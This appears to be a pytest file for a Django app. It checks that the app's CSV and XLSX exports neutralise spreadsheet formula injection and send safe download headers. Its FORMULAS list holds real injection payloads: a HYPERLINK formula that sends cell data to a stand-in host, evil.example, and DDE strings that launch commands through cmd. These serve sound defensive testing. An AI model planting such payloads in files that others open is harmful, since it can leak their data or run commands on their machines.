"""Every spreadsheet export, through its URL as a persona allowed to use it: text that a
spreadsheet would run as a formula comes out quoted, numbers stay numbers, and the file
is a download that is neither sniffed nor cached."""

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.advocacy.factories import CampaignFactory, SignatureFactory
from tests.producers.factories import MemberFactory, OrganizationFactory

# OWASP's CSV-injection starts: =, +, -, @, tab, carriage return.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Ver")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _directory(request):
    keys = {}
    for formula in FORMULAS:
        organization = OrganizationFactory(legal_name=formula)
        MemberFactory.create_batch(2, organization=organization)
        keys[str(organization.pk)] = formula
    return reverse("producers:directory_export"), keys, Decimal(2)


def _register(file_format):
    def fill(request):
        coop_a = request.getfixturevalue("coop_a")
        keys = {}
        for number, formula in enumerate(FORMULAS):
            MemberFactory(
                organization=coop_a, code=f"X{number}", name=formula, total_area_ha=Decimal("-3.5")
            )
            keys[f"X{number}"] = formula
        url = reverse("producers:register_export", args=[coop_a.pk, file_format])
        return url, keys, Decimal("-3.5")

    return fill


def _signatures(request):
    campaign = CampaignFactory()
    keys = {}
    for number, formula in enumerate(FORMULAS):
        SignatureFactory(campaign=campaign, name=formula, email=f"f{number}@example.org")
        keys[f"f{number}@example.org"] = formula
    return reverse("advocacy:signatures_export", args=[campaign.pk]), keys, None


@dataclass(frozen=True)
class Export:
    """One export: who may use it, where each row's key, formula and number go; `fill`
    creates one row per FORMULAS text and returns (url, {key: formula}, the number)."""

    fill: Callable
    persona: str
    key_column: str
    text_column: str
    number_column: str = ""


EXPORTS = {
    "directory.csv": Export(_directory, "network_staff", "id", "legal_name", "members"),
    "register.csv": Export(_register("csv"), "coop_a_viewer", "code", "name", "total_area_ha"),
    "register.xlsx": Export(_register("xlsx"), "coop_a_viewer", "code", "name", "total_area_ha"),
    "signatures.csv": Export(_signatures, "network_staff", "email", "name"),
}


def test_every_export_in_the_product_is_listed_here():
    from tests.test_permission_matrix import ROUTES

    exports = {name for name in ROUTES if name.endswith("_export")}
    assert exports == {
        "producers:directory_export",
        "producers:register_export",
        "advocacy:signatures_export",
    }, "a new export: add it to EXPORTS above"


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_formulas_come_out_as_quoted_text_and_numbers_as_numbers(name, request, client, db):
    export = EXPORTS[name]
    file_format = name.rsplit(".", 1)[1]
    url, formulas, number = export.fill(request)
    client.force_login(request.getfixturevalue(export.persona))

    response = client.get(url)

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith(f'.{file_format}"')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    rows = {_text(row[export.key_column]): row for row in read(response.getvalue(), file_format)}
    assert set(formulas) <= set(rows)
    for key, formula in formulas.items():
        text, numeric = rows[key][export.text_column], rows[key].get(export.number_column)
        if file_format == "xlsx":
            # XML reads a carriage return back as a line feed.
            expected = "'" + formula.replace("\r", "\n")
            assert (text.data_type, text.value) == ("s", expected), repr(formula)
            assert numeric.data_type == "n" and Decimal(str(numeric.value)) == number
        else:
            assert text == "'" + formula, repr(formula)
            assert numeric is None or Decimal(numeric) == number, numeric  # not quoted


def read(body: bytes, file_format: str) -> list[dict]:
    """Rows as {column: cell}; a CSV cell is its text, an XLSX cell the openpyxl cell."""
    if file_format == "csv":
        assert body.startswith("\ufeff".encode()), "Excel needs the BOM to read UTF-8"
        return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    rows = load_workbook(io.BytesIO(body)).worksheets[0].iter_rows()
    header = [cell.value for cell in next(rows)]
    return [dict(zip(header, cells, strict=True)) for cells in rows]


def _text(cell) -> str:
    return str(getattr(cell, "value", cell))
